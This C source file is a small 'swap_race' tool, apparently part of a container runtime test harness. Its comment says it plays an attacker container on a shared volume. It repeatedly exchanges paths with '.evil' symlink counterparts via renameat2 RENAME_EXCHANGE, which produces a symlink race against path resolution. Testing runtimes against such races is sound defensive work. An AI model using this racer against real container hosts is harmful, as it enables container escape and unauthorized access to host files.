// Host-side racer (plays the attacker's second container on a shared volume): for DURATION
// seconds, atomically exchanges each PATH with PATH.evil (renameat2 RENAME_EXCHANGE) in a tight
// loop, so a runtime resolving PATH sees a directory/file one moment and a symlink the next.
//   swap_race DURATION PATH...
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc < 3) { fprintf(stderr, "usage: swap_race DURATION PATH...\n"); return 2; }
  double duration = atof(argv[1]);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long swaps = 0, iter = 0;
  char evil[4096];
  for (;;) {
    for (int i = 2; i < argc; ++i) {
      snprintf(evil, sizeof evil, "%s.evil", argv[i]);
      if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, evil, RENAME_EXCHANGE) == 0) ++swaps;
    }
    if ((++iter & 1023) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &t);
      if ((t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > duration) break;
    }
  }
  fprintf(stderr, "swap_race: %ld exchanges\n", swaps);
  return 0;
}
